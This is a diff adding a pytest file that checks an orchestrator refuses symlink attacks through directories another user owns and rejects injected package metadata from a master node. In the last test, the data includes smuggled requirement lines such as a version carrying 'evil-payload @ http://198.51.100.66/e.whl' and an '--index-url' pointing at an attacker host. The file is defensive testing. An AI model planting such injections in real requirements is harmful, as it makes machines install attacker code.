@@ -1,0 +1,217 @@
+"""A directory another user made (a shared scratch space) is written into by nothing bootstrap sends:
+not the preflight's workdir marker (a planted link made `check` overwrite /etc/shadow), not code sync
+(a planted `code` link, or a directory swapped for one between its scan and its apply, had it write
+and delete in a directory the attacker chose), not the environment sync's marker; `bench --callable`
+imports nothing from such a code directory (launch refused it already). And a master whose Python
+answers what no package index would (a version holding a newline and `name @ URL`) is refused before
+its answer becomes the requirements every node installs.
+
+The other user is a uid no account has (chown: the tests run as root, as CI does): what the checks
+look at is the owner."""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from orchestrator.errors import CommandFailedError
+from orchestrator.inventory import load_inventory_text
+from orchestrator.platforms import UNSAFE_DIR_EXIT, PosixShell
+from orchestrator.render import Renderer, plan_launch
+from orchestrator.steps.codesync.sync import probe_script
+from orchestrator.steps.envsync.master import MasterEnv
+from orchestrator.steps.envsync.ops import probe_code
+from orchestrator.steps.launch import prepare_plan
+from orchestrator.steps.preflight.rounds import mark_command
+from orchestrator.steps.preflight.shared_fs import MARKER_CODE, MARKER_DIR, safe_path_source
+
+OTHER = 54321  # a uid no account here has: "another local user"
+
+
+@pytest.fixture
+def victim(tmp_path: Path) -> Path:
+    """A file only we may change (what an attacker would aim a link at: /etc/shadow)."""
+    path = tmp_path / "victim" / "precious.conf"
+    path.parent.mkdir()
+    path.write_text("root:secret\n")
+    path.chmod(0o600)
+    return path
+
+
+@pytest.fixture
+def scratch(tmp_path: Path) -> Path:
+    """A directory the other user made first (0755, theirs), where our workdir is to go."""
+    path = tmp_path / "scratch"
+    path.mkdir()
+    os.chown(path, OTHER, OTHER)
+    return path
+
+
+def test_the_preflight_marker_is_not_written_through_a_link_in_a_workdir_another_user_made(
+    scratch: Path, victim: Path
+) -> None:
+    workdir = scratch / "wd"
+    marks = workdir / MARKER_DIR
+    marks.mkdir(parents=True)
+    for d in (workdir, marks):
+        os.chown(d, OTHER, OTHER)
+    (marks / "node1").symlink_to(victim)
+    os.lchown(marks / "node1", OTHER, OTHER)
+    ran = subprocess.run(
+        ["/bin/sh", "-c", mark_command(PosixShell(), str(workdir), MARKER_DIR, "node1", "0123456789abcdef")],
+        capture_output=True,
+        text=True,
+        timeout=30,
+    )
+    assert ran.returncode == UNSAFE_DIR_EXIT, ran
+    # the first directory of the path that is not ours, in the workdir verdict's words
+    assert ran.stdout.startswith(f"refusing {scratch}: it belongs to another user"), ran
+    assert victim.read_text() == "root:secret\n"
+    # the same marker in a workdir of ours is written
+    own = scratch.parent / "own-wd"
+    ran = subprocess.run(
+        ["/bin/sh", "-c", mark_command(PosixShell(), str(own), MARKER_DIR, "node1", "0123456789abcdef")],
+        capture_output=True,
+        text=True,
+        timeout=30,
+    )
+    assert ran.returncode == 0 and (own / MARKER_DIR / "node1").read_text() == "0123456789abcdef", ran
+
+
+def test_the_python_marker_refuses_the_same_workdir(scratch: Path, victim: Path) -> None:
+    """The marker Windows nodes, and `check` when its round could not carry the marker, write."""
+    workdir = scratch / "wd"
+    marks = workdir / MARKER_DIR
+    marks.mkdir(parents=True)
+    os.chown(workdir, OTHER, OTHER)
+    os.chown(marks, OTHER, OTHER)
+    (marks / "node1").symlink_to(victim)
+    args = {"op": "write", "dirs": [str(workdir)], "name": "node1", "token": "0123456789abcdef"}
+    ran = subprocess.run(
+        [sys.executable, "-c", safe_path_source() + MARKER_CODE, json.dumps(args)],
+        capture_output=True,
+        text=True,
+        timeout=30,
+        check=True,
+    )
+    said = json.loads(ran.stdout)[str(workdir)]
+    assert said["error"].startswith(f"refusing {scratch}: it belongs to another user (uid {OTHER})"), said
+    assert victim.read_text() == "root:secret\n"
+
+
+def _code_probe(args: dict[str, Any]) -> dict[str, Any]:
+    ran = subprocess.run(
+        [sys.executable, "-c", probe_script(), json.dumps(args)], capture_output=True, text=True, timeout=60
+    )
+    assert ran.returncode == 0, ran
+    out: dict[str, Any] = json.loads(ran.stdout)
+    return out
+
+
+def test_code_sync_neither_scans_nor_writes_through_a_code_link_another_user_planted(
+    scratch: Path, victim: Path
+) -> None:
+    dest = scratch / "code"
+    dest.symlink_to(victim.parent)
+    os.lchown(dest, OTHER, OTHER)
+    scan = _code_probe({"op": "scan", "dest": str(dest), "rules": [], "create": True})
+    assert scan["refused"].startswith(f"refusing {scratch}: it belongs to another user"), scan
+    assert scan["files"] == {} and sorted(os.listdir(victim.parent)) == ["precious.conf"]
+
+
+def test_code_sync_apply_checks_the_destination_again_and_deletes_nothing_through_a_swap(
+    scratch: Path, victim: Path
+) -> None:
+    """The scan saw a real directory (with a record naming precious.conf); by the apply it is a link
+    to the victim's directory. The apply asks again, before it reads, writes or deletes anything."""
+    dest = scratch / "code"
+    dest.symlink_to(victim.parent)
+    os.lchown(dest, OTHER, OTHER)
+    sha = __import__("hashlib").sha256(victim.read_bytes()).hexdigest()
+    bundle = victim.parent / ".bootstrap-code-upload-0123456789ab.bundle"
+    header = {"delete": [["precious.conf", sha]], "files": [], "shipped": {}}
+    bundle.write_text(json.dumps(header) + "\n")
+    done = _code_probe({"op": "apply", "dest": str(dest), "bundle": bundle.name})
+    assert done["written"] == 0 and done["deleted"] == 0, done
+    assert done["errors"][0].startswith(f"refused: refusing {scratch}: it belongs to another user"), done
+    assert victim.read_text() == "root:secret\n"
+    assert not (victim.parent / ".bootstrap-code-shipped.json").exists()
+
+
+def test_the_environment_sync_marker_refuses_a_directory_another_user_made(
+    scratch: Path, victim: Path
+) -> None:
+    workdir = scratch / "wd"
+    (workdir / MARKER_DIR).mkdir(parents=True)
+    os.chown(workdir, OTHER, OTHER)
+    os.chown(workdir / MARKER_DIR, OTHER, OTHER)
+    (workdir / MARKER_DIR / "node1").symlink_to(victim)
+    namespace: dict[str, Any] = {"__name__": "env_probe"}
+    exec(compile(probe_code(), "env_probe.py", "exec"), namespace)
+    said = namespace["write_marker"](
+        {"dir": str(workdir), "name": "node1", "token": "0123456789abcdef", "marker_dir": MARKER_DIR}
+    )
+    assert said["error"].startswith(f"refusing {scratch}: it belongs to another user"), said
+    assert victim.read_text() == "root:secret\n"
+
+
+def test_bench_callable_refuses_a_code_directory_another_user_owns_before_anything_starts(
+    scratch: Path, tmp_path: Path
+) -> None:
+    from orchestrator.bench.probe import probe_specs
+
+    code = scratch / "code"
+    code.mkdir()
+    os.chown(code, OTHER, OTHER)
+    text = (
+        "cluster:\n  name: lab\n  master: n1\n  train: {script: train.py, code_dir: '" + str(code) + "'}\n"
+        "nodes:\n  - {name: n1, host: 127.0.0.1, workdir: '" + str(tmp_path / "wd") + "'}\n"
+    )
+    inventory = load_inventory_text(text, "lab.yaml")
+    specs = plan_launch(
+        inventory,
+        backend="gloo",
+        master_addr="127.0.0.1",
+        run_id="bench-lab-1",
+        interfaces={"n1": ("lo", "127.0.0.1")},
+        cpus={"n1": 1},
+        pythons={"n1": "python3"},
+    )
+    (spec,) = probe_specs(specs, batch_size=8, repeats=1, seconds=0.1, timeout=5, workload="mymod:make_step")
+    assert spec.imports_from == str(code)
+    plan = prepare_plan(spec.node, PosixShell(), dataclasses.replace(spec, node_rank=1), renderer=Renderer())
+    prepare = plan.runs[0].script
+    ran = subprocess.run(["/bin/sh", "-c", prepare], capture_output=True, text=True, timeout=30)
+    assert ran.returncode == UNSAFE_DIR_EXIT, ran
+    assert f"refusing {scratch}: it belongs to another user" in ran.stderr, ran
+    assert not (tmp_path / "wd" / "runs").exists()  # refused before the run directory was made
+    # the built-in workload imports nothing from there: not checked, not refused
+    (plain,) = probe_specs(specs, batch_size=8, repeats=1, seconds=0.1, timeout=5)
+    assert plain.imports_from == ""
+
+
+def test_a_master_answer_that_is_no_package_version_is_refused_whole() -> None:
+    answer = {
+        "python": "3.11.7",
+        "platform": "linux",
+        "torch": {"version": "2.13.0+cpu"},
+        "packages": {"torch": "2.13.0+cpu", "numpy": "2.4.6\nevil-payload @ http://198.51.100.66/e.whl"},
+        "portable": ["numpy"],
+    }
+    with pytest.raises(CommandFailedError, match=r"reported version '2\.4\.6\\nevil-payload") as refused:
+        MasterEnv.parse("node1: /usr/bin/python3", answer, "node1")
+    assert refused.value.node == "node1" and "nothing was written or installed" in str(refused.value)
+    for field, value in (("python", "3.11.7\n--index-url http://198.51.100.66/simple"),):
+        with pytest.raises(CommandFailedError, match="no Python version"):
+            MasterEnv.parse("node1: /usr/bin/python3", {**answer, "packages": {}, field: value}, "node1")
+    with pytest.raises(CommandFailedError, match="no package name"):
+        MasterEnv.parse("m", {**answer, "packages": {"--trusted-host x": "1.0"}}, "node1")
+    fine = MasterEnv.parse("m", {**answer, "packages": {"torch": "2.13.0+cpu", "numpy": "2.4.6"}}, "node1")
+    assert fine.packages == {"torch": "2.13.0+cpu", "numpy": "2.4.6"} and fine.portable == {"numpy"}
